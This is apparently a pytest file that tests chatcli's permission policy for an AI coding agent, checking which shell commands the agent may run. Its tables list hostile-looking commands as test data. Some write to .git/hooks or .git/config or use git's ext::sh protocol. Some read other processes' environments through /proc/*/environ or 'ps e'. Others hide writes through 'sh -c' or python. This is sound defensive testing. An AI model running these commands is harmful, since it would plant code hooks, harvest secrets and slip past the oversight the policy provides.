"""The policy's classes of issue 16, judged one call at a time: writes to chatcli's and git's
control files, recursive and interpreted reads of folders that hold a denied path, reads of
other processes' environments, programs that look read-only but write, what each verdict lets
the call reach (:class:`chatcli.Confinement`), and configuration errors. Tables are data: one
line a variation. The same classes run through the real ``chatcli -p`` in
``tests/security/test_policy_class_attacks.py``."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from agent_support import Recorder, call, make_workspace, policy_for
from chatcli import Approval, Decision, Risk, Tool, ToolCallPart, ToolSpec, hookimpl
from chatcli_agent.permissions.policy import CREDENTIAL, PROTECTED, Policy
from pydantic import BaseModel

MODES = ("default", "accept-edits", "plan", "auto")


def shell(command: str, confined: bool = False) -> tuple[ToolCallPart, ToolSpec]:
    spec = ToolSpec("exec", "run", risk=Risk.EXECUTE, subject="command", confined=confined)
    return ToolCallPart(name="exec", arguments={"command": command}), spec


def _make_repo(ws: Any) -> Any:
    """The workspace as a git repository, with a folder holding a ``.mcp.json``, a link to
    ``.git/hooks`` and a file a bare-name deny rule names."""
    subprocess.run(["git", "init", "-q", str(ws.root)], check=True,
                   env={**os.environ, "HOME": str(ws.home)})
    ws.file("sub/.mcp.json", "{}")
    ws.file("deep/er/api.secret", "BARE\n")
    ws.file("notes.txt", "notes\n")
    (ws.root / "hooks-link").symlink_to(".git/hooks")
    return ws


@pytest.fixture(scope="module")
def _module_repo(tmp_path_factory: pytest.TempPathFactory) -> Any:
    return _make_repo(make_workspace(Path(os.path.realpath(tmp_path_factory.mktemp("repo")))))


@pytest.fixture
def repo(_module_repo: Any, monkeypatch: pytest.MonkeyPatch) -> Any:
    """The ``ws`` workspace made a git repository (:func:`_make_repo`), ``HOME`` and the current
    folder, built once for the module: only for tests that judge and change no file (a
    test that writes asks for ``own_repo``)."""
    monkeypatch.setenv("HOME", str(_module_repo.home))
    monkeypatch.chdir(_module_repo.root)
    return _module_repo


@pytest.fixture
def policy(repo: Any) -> Any:
    """conftest's ``policy`` for the module's repository."""
    return policy_for(repo)


@pytest.fixture
def own_repo(ws: Any) -> Any:
    """The test's own ``ws`` made a repository as ``repo`` is, for tests that change files."""
    return _make_repo(ws)


@pytest.fixture
def own_policy(own_repo: Any) -> Any:
    return policy_for(own_repo)


def judge(policy: Policy, command: str, confined: bool = False) -> Any:
    return policy.judge(*shell(command, confined))


# ------------------------------------------------------------------------------ protected

PROTECTED_COMMANDS = [
    "echo x > .git/config", "echo x >> ./.git/config", "echo x > sub/../.git/hooks/pre-commit",
    "echo x > .GIT/config", "echo x > hooks-link/post-commit", "tee .gitattributes < notes.txt",
    "cp notes.txt src/.gitattributes", "cp notes.txt .chatcli/config.toml",
    "cp sub/.mcp.json .", "cp -r sub/. .", "cp -t . sub/.mcp.json", "mv notes.txt .gitmodules",
    "sed -i s/a/b/ .git/config", "dd if=notes.txt of=.git/config", "touch .chatcli/x.toml",
    "install notes.txt .git/hooks/pre-push", "cd .git && echo x >> config",
    "git config user.name me", "git config --unset user.name", "git remote add x ext::sh",
    "git remote set-url origin ext::sh", "git submodule add ./sub s", "git init --template=t",
    "git lfs install", "pre-commit install", "ln -s .git/hooks h", "ln .git/config hard",
    "cp -l .git/config hard", "bash -c 'echo x > .mcp.json'", "rm -rf .git",
    "echo '{}' > .claude/settings.json", "echo x > .claude/settings.local.json",
    "echo x > vendor/lib/.gitmodules", "ed -s .git/config", "vim .gitattributes",
    "wget -P .git/hooks http://x/y", "curl --output-dir .git/hooks -O http://x/y",
    "tar -C .git -xf missing.tar", "ln -s ../.git/config sub/l && echo x > sub/l",
    "git mv notes.txt .gitattributes", "git checkout HEAD -- .gitattributes",
    "git restore --source=x .mcp.json", "echo x | sponge .git/config",
    "patch .git/config x.diff", "mkdir -p .git/hooks", "chmod +x .git/hooks/pre-commit",
    "git config -f .git/config user.name x", "git -C sub config user.name x",
    "git worktree add ../w", "exec 3> .git/config", "sort -o.git/config notes.txt",
    "sort --out=.git/config notes.txt", "uniq notes.txt .git/config",
    "xxd notes.txt .git/config", "split -l1 notes.txt .git/hooks/x",
    "csplit -f .git/hooks/x notes.txt 1", "curl http://x -o.git/hooks/x",
    "wget -O.git/hooks/x http://x", "tree -o .git/config", "find . -fprint .git/config",
    "git log --output=.git/config", "sed -i.bak s/a/b/ .git/config",
    "sed -Ei s/a/b/ .gitattributes", "perl -pi.bak -e 's/a/b/' .git/config",
]
#: Ways the policy cannot see where a write goes: they ask as code it cannot see, in every mode.
HIDDEN_WRITES = ["env -C .git sh -c 'echo > config'", "vim -c 'w! .git/config' -c q notes.txt",
                 "env -S 'cp notes.txt .mcp.json'", "sudo -D .git sh -c 'echo > config'",
                 "awk '{print > \".git/config\"}' notes.txt", "python3 -c 'open(\".mcp.json\")'",
                 "printf 'echo x > .git/config' | sh"]
PROTECTED_FILES = [".git/config", "./.git/hooks/x", "src/../.gitattributes", ".chatcli/a.toml",
                   ".mcp.json", ".claude/settings.json", "hooks-link/pre-commit", ".Git/HEAD"]


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("command", PROTECTED_COMMANDS)
def test_a_write_to_a_control_file_asks_in_every_mode(repo: Any, policy: Any, mode: str,
                                                       command: str) -> None:
    judgement = judge(policy(mode, classes=("write", "execute")), command)
    if mode == "plan":
        assert judgement.verdict.decision == Decision.DENY
        return
    assert judgement.verdict.decision == Decision.ASK, judgement.verdict
    assert any(p.level == PROTECTED for p in judgement.parts), judgement.parts
    assert "control files" in judgement.verdict.reason
    assert judgement.hard and judgement.rules == []  # "always" remembers nothing
    # the sandbox does not change it: the person says whether the control files may change
    assert judge(policy(mode), command, confined=True).verdict.decision == Decision.ASK
    assert judgement.verdict.confinement.protected_writable  # a yes is for them


@pytest.mark.parametrize("mode", ["default", "accept-edits", "auto"])
@pytest.mark.parametrize("command", HIDDEN_WRITES)
def test_a_write_the_policy_cannot_follow_asks_in_every_mode(repo: Any, policy: Any, mode: str,
                                                              command: str) -> None:
    made = policy(mode, classes=("write", "execute"))
    judgement = judge(made, command)
    assert judgement.verdict.decision == Decision.ASK, judgement.verdict
    assert made.unattended(judgement).decision == Decision.DENY


@pytest.mark.parametrize("path", PROTECTED_FILES)
@pytest.mark.parametrize("tool", ["write", "edit"])
def test_the_file_tools_ask_too_even_with_a_broad_rule(repo: Any, policy: Any, path: str,
                                                       tool: str) -> None:
    made = policy("auto", rules=(("allow", "edit"), ("allow", "edit(**)")),
                  classes=("write",))
    judgement = made.judge(*call(tool, path=path, content="x", old="a", new="b"))
    assert judgement.verdict.decision == Decision.ASK
    assert "control files" in judgement.verdict.reason
    unattended = made.unattended(judgement)
    assert unattended.decision == Decision.DENY and "--allow 'edit(" in unattended.reason


@pytest.mark.parametrize("command", [
    "echo x > .gitignore", "echo x > src/git.txt", "echo x > .github/ci.yml",
    "echo x > .claude/notes.md", "cat .git/config", "git status", "git config --get user.name",
    "git config list", "cp notes.txt copy.txt", "tar -xf missing.tar -C build",
])
def test_near_misses_are_not_control_files(own_repo: Any, own_policy: Any,
                                           command: str) -> None:
    (own_repo.root / "build").mkdir(exist_ok=True)
    judgement = judge(own_policy("auto"), command)
    assert not any(p.level == PROTECTED for p in judgement.parts), judgement.verdict.reason
    assert judgement.verdict.decision == Decision.ALLOW, judgement.verdict.reason


def test_a_rule_naming_the_control_file_allows_it(repo: Any, policy: Any) -> None:
    named = policy("accept-edits", rules=(("allow", "edit(.git/info/**)"),
                                          ("allow", "exec(git config user.email:*)")))
    judgement = named.judge(*call("write", path=".git/info/exclude", content="x"))
    assert judgement.verdict.decision == Decision.ALLOW
    assert judgement.verdict.confinement.protected_writable
    assert judge(named, "git config user.email me@x").verdict.decision == Decision.ALLOW
    assert judge(named, "git config user.name me").verdict.decision == Decision.ASK
    assert named.judge(*call("write", path=".git/config", content="x")).verdict.decision == \
        Decision.ASK


def test_archives_and_patches_are_read_for_control_files(own_repo: Any, own_policy: Any) -> None:
    import tarfile
    import zipfile

    with tarfile.open(own_repo.root / "hooks.tar", "w") as archive:
        archive.add(own_repo.root / "notes.txt", arcname=".git/hooks/post-checkout")
    with tarfile.open(own_repo.root / "plain.tar", "w") as archive:
        archive.add(own_repo.root / "notes.txt", arcname="docs/notes.txt")
    with zipfile.ZipFile(own_repo.root / "mcp.zip", "w") as archive:
        archive.writestr(".mcp.json", "{}")
    (own_repo.root / "p.patch").write_text(
        "--- /dev/null\n+++ b/.gitattributes\n@@ -0,0 +1 @@\n+x\n")
    made = own_policy("auto")
    for command in ("tar -xf hooks.tar", "tar xf hooks.tar", "unzip mcp.zip", "git apply p.patch",
                    "patch -p1 < p.patch", "tar -xzf - < /dev/null"):
        assert judge(made, command).verdict.decision == Decision.ASK, command
    assert judge(made, "tar -xf plain.tar").verdict.decision == Decision.ALLOW
    assert judge(made, "tar -tf hooks.tar").verdict.decision == Decision.ALLOW  # a listing


# ------------------------------------------------------------------------------ recursive reads

RECURSIVE = [
    "grep -r BARE .", "grep -R BARE", "grep -r -e BARE", "grep -d recurse BARE .",
    "grep --directories=recurse BARE .", "rg BARE", "rg -uu -e BARE", "rg --hidden --no-ignore X",
    "rg -A3 X", "git grep --untracked X", "git grep --no-index X", "ls -R", "find . -name x",
    "tar -cf - .", "zip -r x.zip deep", "cp -r deep copy", "du -a", "tree",
    "git log -p", "git show HEAD", "git diff", "git archive HEAD", "git stash show -p",
    "sh -c 'grep -r X .'", "diff -rN deep empty", "cd deep && grep -r X",
    "git cat-file -p 0123abcd", "ls -R1", "grep -r K ~+", "grep -rI K ./",
]


@pytest.mark.parametrize("command", RECURSIVE)
def test_a_recursive_read_of_a_folder_holding_a_denied_path_asks(repo: Any, policy: Any,
                                                                 command: str) -> None:
    for rule in ("read(*.secret)", "read(./deep/**)", "read(deep/er/api.secret)"):
        made = policy("auto", rules=(("deny", rule),), classes=("execute",))
        judgement = judge(made, command)
        assert judgement.verdict.decision in (Decision.ASK, Decision.DENY), (rule, command)
        assert made.unattended(judgement).decision == Decision.DENY


@pytest.mark.parametrize("command", ["grep -r BARE .", "rg -uu -e BARE", "git grep X",
                                     "tar -cf - deep"])
def test_in_the_sandbox_the_denied_paths_are_hidden_so_it_runs(repo: Any, policy: Any,
                                                               command: str) -> None:
    made = policy("default", rules=(("deny", "read(*.secret)"),))
    judgement = judge(made, command, confined=True)
    if command.startswith("tar"):  # not read-only: asks for that reason alone
        assert "denies" not in judgement.verdict.reason
        return
    assert judgement.verdict.decision == Decision.ALLOW, judgement.verdict.reason
    assert judgement.verdict.confinement.hidden == (f"{repo.root}/**/*.secret",)
    assert judgement.verdict.confinement.writable is False


def test_git_history_asks_even_in_the_sandbox(repo: Any, policy: Any) -> None:
    made = policy("default", rules=(("deny", "read(*.secret)"),))
    assert judge(made, "git log -p", confined=True).verdict.decision == Decision.ASK
    assert judge(made, "git log --oneline", confined=True).verdict.decision == Decision.ALLOW


@pytest.mark.parametrize("command", ["grep -r print src", "rg print src", "git log -p -- src",
                                     "grep -rn -e x -- src", "ls -R src", "git diff -- src"])
def test_a_recursive_read_elsewhere_runs(repo: Any, policy: Any, command: str) -> None:
    made = policy("default", rules=(("deny", "read(*.secret)"), ("deny", "read(./deep/**)")))
    assert judge(made, command).verdict.decision == Decision.ALLOW, judge(made, command).verdict


def test_a_glob_past_200_matches_still_finds_the_denied_file(own_repo: Any,
                                                             own_policy: Any) -> None:
    for index in range(250):
        own_repo.file(f"aaa/f{index:03}.txt")
    own_repo.file("zzz/key.secret", "BARE\n")
    made = own_policy("auto", rules=(("deny", "read(*.secret)"),))
    assert judge(made, "cat */*").verdict.decision == Decision.DENY


# ------------------------------------------------------------------------------ environments

ENVIRON = [
    "ps e", "ps auxeww", "ps -ef e", "ps axe", "ps eww -p 1", "ps -o pid,environ",
    "ps -A -o environ=", "ps --format environ", "cat /proc/1/environ", "cat /proc/self/environ",
    "strings /proc/*/environ", "xargs -0 < /proc/1/environ", "tr '\\0' '\\n' < /proc/1/environ",
    "cat /proc/1/task/1/environ", "gdb -p 1", "strace -p 1", "sh -c 'ps e'", "gcore 1",
    "ps wwe", "ps -e e", "ps -eo environ", "cat /proc/1/../1/environ", "cat /proc/1/mem",
    "grep -a KEY /proc/*/environ", "cd /proc/1 && cat environ",
]


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("command", ENVIRON)
def test_reading_other_processes_environments_asks(repo: Any, policy: Any, mode: str,
                                                   command: str) -> None:
    made = policy(mode, rules=(("allow", "exec"),), classes=("execute",))
    judgement = judge(made, command)
    assert judgement.verdict.decision in (Decision.ASK, Decision.DENY), judgement.verdict
    assert made.unattended(judgement).decision == Decision.DENY


@pytest.mark.parametrize("command", ["ps e", "ps auxeww", "ps -o pid,environ"])
def test_in_the_sandbox_other_processes_are_not_there(repo: Any, policy: Any,
                                                      command: str) -> None:
    judgement = judge(policy("default"), command, confined=True)
    assert judgement.verdict.decision == Decision.ALLOW
    assert any(p.level == CREDENTIAL for p in judge(policy("default"), command).parts)


@pytest.mark.parametrize("command", ["ps aux", "ps -ef", "ps -e", "ps -Ao user,pid", "pgrep -a x",
                                     "ps -p 1 -o user", "ps -C sleep", "env", "printenv HOME"])
def test_plain_process_listings_do_not_count(repo: Any, policy: Any, command: str) -> None:
    judgement = judge(policy("auto"), command)
    assert not any(p.level == CREDENTIAL for p in judgement.parts), judgement.verdict.reason


# ------------------------------------------------------------------------------ writers

WRITERS = [
    "xxd /dev/null keep.txt", "xxd -l 4 a b", "xxd -r a", "sort -okeep.txt x", "sort -o keep.txt",
    "sort -nrokeep.txt x", "sort --output=k x", "sort --out=k x", "sort --compress-program=gz x",
    "uniq a b", "uniq -f 1 a b", "tree -o out", "file -C -m x", "less -o log x",
    "cat x | less -Olog", "date -s 2020-01-01", "hostname evil", "git grep -O x",
    "git grep -Ovim x", "git grep --open-files-in-pager=vim x", "find . -fprint out",
    "find . -delete", "git branch new", "git tag v1", "git stash", "git help -w log",
    "git config user.name x", "export LD_PRELOAD=x.so", "fdfind -x rm", "bat --pager=sh x",
    "tee out", "dd if=a of=b", "touch x", "truncate -s0 x", "gzip x", "split x", "csplit x 1",
    "ln -s a b", "install a b", "patch -p1", "git -c core.pager=x log", "GIT_DIR=x git log",
    "git --git-dir=x log", "git --work-tree=/ status", "less '+!touch x' notes.txt",
    "awk -i inplace 1 notes.txt", "git -c protocol.ext.allow=always ls-remote ext::sh",
    "git -c url.ext::sh.insteadOf=x ls-remote x", "GIT_ALLOW_PROTOCOL=ext git ls-remote x",
    "env -S'touch x'",
]


@pytest.mark.parametrize("command", WRITERS)
def test_a_program_that_looks_read_only_but_writes_asks_in_default_mode(
        repo: Any, policy: Any, command: str) -> None:
    judgement = judge(policy("default"), command)
    assert judgement.verdict.decision in (Decision.ASK, Decision.DENY), command


@pytest.mark.parametrize("command", [
    "xxd notes.txt", "xxd -l 4 notes.txt", "sort -n notes.txt", "sort -t, -k2 notes.txt",
    "uniq notes.txt", "uniq -c notes.txt", "tree src", "file notes.txt", "less notes.txt",
    "date", "date -d yesterday", "hostname", "git grep -n x", "git branch", "git branch -a",
    "git tag -l", "git stash list", "git config --get user.name", "find . -name x",
    "git log --oneline -5", "git status", "ps aux",
])
def test_their_plain_forms_run_unasked_and_read_only(repo: Any, policy: Any,
                                                    command: str) -> None:
    judgement = judge(policy("default"), command)
    assert judgement.verdict.decision == Decision.ALLOW, judgement.verdict.reason
    assert judgement.verdict.confinement.writable is False


# ------------------------------------------------------------------------------ confinement


def test_what_each_verdict_lets_the_call_reach(repo: Any, policy: Any) -> None:
    rules = (("deny", "read(./deep/**)"), ("deny", "read(*.key)"), ("deny", "read(~/notes)"),
             ("deny", "edit(src/**)"), ("deny", "exec(curl:*)"))
    default = policy("default", rules=rules)
    hidden = (f"{repo.root}/deep/**", f"{repo.root}/**/*.key", f"{repo.home}/notes")
    read_only = judge(default, "cat notes.txt").verdict
    assert (read_only.decision, read_only.confinement.writable) == (Decision.ALLOW, False)
    assert read_only.confinement.hidden == hidden  # read() deny rules only, absolute
    asked = judge(default, "make build").verdict
    assert asked.decision == Decision.ASK and asked.confinement.writable  # after a yes
    assert not asked.confinement.protected_writable
    edits = policy("accept-edits", rules=rules)
    assert judge(edits, "echo x > out.txt").verdict.confinement.writable  # a granted edit
    assert not judge(edits, "grep x notes.txt").verdict.confinement.writable
    auto = policy("auto", rules=rules)
    assert judge(auto, "make build").verdict.confinement.writable
    ruled = policy("default", rules=(("allow", "exec(make:*)"),))
    assert judge(ruled, "make build").verdict.confinement.writable
    tool = policy("default").judge(*call("read", path="notes.txt")).verdict
    assert tool.confinement.writable is False


class ProbeArgs(BaseModel):
    command: str


class Probe:
    """A shell-like tool that records the confinement it was run with."""

    def __init__(self, confined: bool) -> None:
        self.seen: list[Any] = []
        self.confined = confined

    @hookimpl
    def register_tools(self, register: Any) -> None:
        def run(args: ProbeArgs, context: Any) -> str:
            self.seen.append(context.confinement)
            return "ran"

        register(Tool(name="sandboxed", description="runs a command", args_model=ProbeArgs,
                      risk=Risk.EXECUTE, subject="command", run=run, confined=self.confined))


def test_the_tool_runs_with_the_confinement_of_its_verdict(own_repo: Any, driver: Any) -> None:
    probe = Probe(confined=True)
    approver = Recorder([Approval(True), Approval(True)])
    chat = driver(interactive=True, approver=approver, plugins=(probe,),
                  settings={"permissions": {"deny": ["read(*.secret)"]}})
    chat.turn(("sandboxed", {"command": "grep -r BARE ."}),
              ("sandboxed", {"command": "make build"}),
              ("sandboxed", {"command": "echo x > .git/config"}))
    reads, built, protected = probe.seen
    assert (reads.writable, reads.protected_writable) == (False, False)
    assert reads.hidden == (f"{own_repo.root}/**/*.secret",)
    assert (built.writable, built.protected_writable) == (True, False)
    assert (protected.writable, protected.protected_writable) == (True, True)
    assert len(approver.questions) == 2  # the recursive read did not ask: the sandbox hides


# ------------------------------------------------------------------------------ config errors


def _cli(tmp_path: Path, config: str, *flags: str) -> subprocess.CompletedProcess[str]:
    (tmp_path / "config").mkdir(exist_ok=True)
    (tmp_path / "config" / "config.toml").write_text(config)
    (tmp_path / "ws").mkdir(exist_ok=True)
    env = {"PATH": os.environ["PATH"], "HOME": str(tmp_path),
           "CHATCLI_CONFIG_DIR": str(tmp_path / "config"),
           "CHATCLI_DATA_DIR": str(tmp_path / "data"), "CHATCLI_CACHE_DIR": str(tmp_path / "c"),
           "OPENAI_API_KEY": "test", "OPENAI_BASE_URL": "http://127.0.0.1:9",
           "CHATCLI_PLUGINS": "openai,coder,permissions,print"}
    chatcli = Path(sys.executable).parent / "chatcli"
    return subprocess.run([str(chatcli), "--provider", "openai", "--model", "m", "-p", "hi",
                           *flags], cwd=tmp_path / "ws", env=env, capture_output=True,
                          text=True, stdin=subprocess.DEVNULL, timeout=60)


@pytest.mark.parametrize(("config", "said"), [
    ('[permissions]\nmode = "yolo"\n', "unknown mode 'yolo' — choose default, accept-edits"),
    ('[permissions]\nmode = "atuo"\n', "did you mean 'auto'?"),
    ('[permissions]\nmode = "accept_edits"\n', "did you mean 'accept-edits'?"),
    ('[permissions]\ndeny = ["raed(.env)"]\n', "unknown rule kind 'raed' in 'raed(.env)' — "
                                                "did you mean 'read'?"),
    ('[permissions]\nallow = ["exce(ls:*)"]\n', "did you mean 'exec'?"),
    ('[permissions]\nask = ["Edti(src/**)"]\n', "did you mean 'Edit'?"),
])
def test_a_wrong_mode_or_rule_kind_is_a_configuration_error(tmp_path: Path, config: str,
                                                            said: str) -> None:
    done = _cli(tmp_path, config)
    assert done.returncode == 2, done.stderr
    lines = done.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("chatcli: error: [permissions] "), lines
    assert said in lines[0]


def test_a_projects_mode_is_never_used_so_its_spelling_stops_nothing(tmp_path: Path) -> None:
    """A cloned repository's ``mode = "yolo"`` cannot keep chatcli from running there: a
    project never sets the mode (trusted or not), so it is not checked either."""
    project = tmp_path / "ws" / ".chatcli"
    project.mkdir(parents=True)
    (project / "config.toml").write_text('[permissions]\nmode = "yolo"\n')
    done = _cli(tmp_path, "")
    assert "unknown mode" not in done.stderr and done.returncode != 2, done.stderr


def test_permissions_names_the_protected_files(own_repo: Any, driver: Any) -> None:
    from chatcli_agent.permissions.command import describe

    chat = driver()
    lines = describe(chat.plugin.state_for(chat.session))
    assert any(line.startswith("protected (") and ".git/**" in line and ".mcp.json" in line
               for line in lines), lines


def test_a_rule_for_a_tool_no_plugin_gives_is_kept(tmp_path: Path) -> None:
    # not close to any known name: maybe the tool of a plugin that is not loaded
    done = _cli(tmp_path, '[permissions]\ndeny = ["mcp__github", "webfetch(x)"]\n')
    assert done.returncode != 2 and "unknown rule kind" not in done.stderr
